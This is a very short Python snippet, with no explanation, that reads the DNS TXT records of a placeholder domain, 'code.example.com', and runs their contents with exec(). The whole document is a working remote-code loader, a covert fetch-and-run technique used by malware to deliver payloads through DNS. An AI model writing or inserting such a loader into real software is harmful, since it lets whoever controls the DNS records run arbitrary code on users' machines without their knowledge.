import dns.resolver

for record in dns.resolver.resolve("code.example.com", "TXT"):
    for text in record.strings:
        exec(text.decode())
